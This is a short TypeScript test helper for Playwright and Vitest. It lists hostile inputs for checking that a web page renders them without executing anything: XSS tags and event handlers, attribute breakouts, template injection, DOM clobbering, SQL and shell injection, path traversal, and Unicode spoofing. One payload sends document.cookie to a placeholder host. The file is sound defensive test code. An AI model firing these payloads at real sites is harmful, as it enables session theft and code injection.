import type { Page } from 'playwright-core'
import { expect } from 'vitest'

/** One of each way to smuggle something in that runs, and of each that misleads the eye or the code. */
export const HOSTILE = [
  '<script>top.__xss=1</script>',
  '<img src=x onerror=top.__xss=1>',
  '<svg/onload=fetch("//x.invalid/"+document.cookie)>',
  '<iframe srcdoc="<script>top.__xss=1</script>"></iframe>',
  '"><script>top.__xss=1</script>',
  '</title></textarea></style><script>top.__xss=1</script>',
  '" onmouseover=top.__xss=1 autofocus onfocus=top.__xss=1 x="',
  'javascript:top.__xss=1',
  '<style>@import "//x.invalid/x.css";</style>',
  '<base href="//x.invalid/">',
  '<meta http-equiv=refresh content="0;url=//x.invalid/">',
  '{{constructor.constructor("top.__xss=1")()}}',
  '"__html":"<img src=x onerror=top.__xss=1>"',
  '<img id=config><img name=config id=config>',
  '&lt;script&gt;top.__xss=1&lt;/script&gt;',
  "'; DROP TABLE partners;-- %s $(id) ../../etc",
  '__proto__',
  '\u202Egnp.exe\u202C \u2066x\u2069',
  '\u0627\u0644\u0639\u0631\u0628\u064A\u0629 <b>\u05E9\u05DC\u05D5\u05DD</b>',
  `Z${'\u0300\u0323'.repeat(60)}algo`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} ac\u200Dme \u212B',
]

export const nothingRan = async (page: Page) =>
  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
